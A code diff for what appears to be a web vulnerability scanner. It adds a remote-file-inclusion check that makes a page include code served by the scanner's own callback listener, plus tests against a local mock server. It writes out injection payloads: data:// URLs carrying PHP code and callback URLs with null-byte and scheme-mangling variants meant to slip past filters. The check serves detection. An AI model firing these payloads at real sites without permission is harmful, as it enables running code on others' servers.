@@ -6,8 +6,10 @@ use futures_util::future::BoxFuture;
 use super::computed::{self, products};
 use super::facts::facts;
 use super::marks::Marks;
-use crate::checks::{About, Bench, Check, Entry};
-use crate::point::{Place, Point};
+use crate::checks::{About, Bench, Check, Entry, callback};
+use crate::listener::RAN;
+use crate::point::{Place, Point, Put};
+use crate::proof::{Expect, Proof};
 
 /// See [`About`].
 pub(super) struct RemoteFile;
@@ -18,13 +20,22 @@ static ABOUT: About = About {
     means: "A value says which file is included as code, and addresses of other places are taken as well.",
     matters: "The sender of the request lets the application run code of their own.",
     remedy: "Choose what is included from a fixed list. Switch off `allow_url_include` and `allow_url_fopen`.",
-    technique: "An address that carries a small program in itself is put in; the result of its calculation must be shown, and \
-                that of another calculation must be another.",
+    technique: "The address of the scanner's listener is put in, which serves a small program; the result of its calculation \
+                must be shown. So must that of a program that the address carries in itself, and that of another calculation \
+                must be another.",
     source: "CWE-98",
 };
 
 const SHOWN: &[&str] =
     &["data://text/plain,<?php print({a}*{b});?>", "data:text/plain,<?php print({a}*{b});?>#"];
+
+/// Addresses of the listener: with what makes an added extension harmless, and past filters for the usual writing.
+const CALLING: &[&str] = &[
+    "http://{{callback}}/{{token}}?",
+    "http://{{callback}}/{{token}}\0",
+    "HTTP://{{callback}}/{{token}}",
+    "hthttp://tp://{{callback}}/{{token}}?",
+];
 
 impl Check for RemoteFile {
     fn about(&self) -> &'static About {
@@ -46,6 +57,9 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     if !known.matters {
         return;
     }
+    if let Some((payload, proof)) = by_call(bench, entry, point).await {
+        return bench.report_at(150_057, entry, Some((point, payload)), proof);
+    }
     let marks = Marks::of(entry, point);
     let list: Vec<_> = SHOWN.iter().map(|template| products(template, &marks, &point.value)).collect();
     if let Some((payload, proof)) = computed::prove_first(bench, entry, point, &list).await {
@@ -53,10 +67,50 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     }
 }
 
+/// What the listener serves ran.
+async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(&'static str, Proof)> {
+    for payload in CALLING {
+        let token = callback::token(entry, &format!("{} {}", point.kind(), point.name), payload);
+        let sent = callback::filled(bench, payload, &token)?;
+        let answer = bench.send_of(entry, &entry.request.with(point, Put::Text(&sent))).await.ok()?;
+        if !answer.text().contains(RAN) {
+            continue;
+        }
+        let attack = entry.request.with(point, Put::Text(payload));
+        let replay = entry.replay(attack, Expect::Body(RAN.to_owned()), entry.request.clone());
+        if let Ok(proof) = bench.prove(replay).await {
+            return Some((payload, proof));
+        }
+    }
+    None
+}
+
 #[cfg(test)]
 mod tests {
+    use std::io::{Read, Write};
+    use std::net::{IpAddr, TcpStream};
+
     use super::*;
-    use crate::testing::{Answer, Asked, scan, serve};
+    use crate::http::{Request, Target};
+    use crate::listener::CallbackListener;
+    use crate::testing::{Answer, Asked, Extras, scan, scan_with, serve};
+
+    /// What a server does that includes an address, with programs or as a text.
+    fn include(url: &str, runs: bool) -> String {
+        let Some((host, path)) = url.strip_prefix("http://").and_then(|rest| rest.split_once('/')) else {
+            return "no such page".to_owned();
+        };
+        let Ok(mut stream) = TcpStream::connect(host) else { return String::new() };
+        write!(stream, "GET /{path} HTTP/1.0\r\n\r\n").unwrap();
+        let mut text = String::new();
+        stream.read_to_string(&mut text).unwrap();
+        let (_, text) = text.split_once("\r\n\r\n").unwrap();
+        if runs {
+            text.replace("<?php echo 'redoubt-ran-'.(1337*1338); ?>", "redoubt-ran-1788906")
+        } else {
+            text.to_owned()
+        }
+    }
 
     fn answer(asked: &Asked) -> Answer {
         let page = asked.field("page");
@@ -66,6 +120,8 @@ mod tests {
                 (found[1].parse::<u64>().unwrap() * found[2].parse::<u64>().unwrap()).to_string(),
             ),
             _ if page == "home" => Answer::html("<p>Welcome</p>"),
+            _ if asked.path == "/remote" => Answer::html(include(&format!("{page}.html"), true)),
+            _ if asked.path == "/fetched" => Answer::html(include(&page, false)),
             _ => Answer::html(format!("no {}", page.replace('<', "&lt;"))),
         }
     }
@@ -75,5 +131,17 @@ mod tests {
         let server = serve(answer).await;
         assert_eq!(scan(&RemoteFile, server, "/included?page=home").await.len(), 1);
         assert!(scan(&RemoteFile, server, "/shown?page=home").await.is_empty());
+    }
+
+    #[tokio::test]
+    async fn programs_of_the_listener_that_run_are_found_and_texts_are_not() {
+        let server = serve(answer).await;
+        let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
+        for (path, wanted) in [("/remote", 1), ("/fetched", 0), ("/shown", 0)] {
+            let url = Target::parse(&format!("http://{server}{path}?page=home")).unwrap();
+            let extras = Extras { listener: Some(&listener), ..Extras::default() };
+            let (found, _) = scan_with(&RemoteFile, vec![Request::get(url)], extras).await;
+            assert_eq!(found.iter().filter(|found| found.qid == 150_057).count(), wanted, "{path}");
+        }
     }
 }
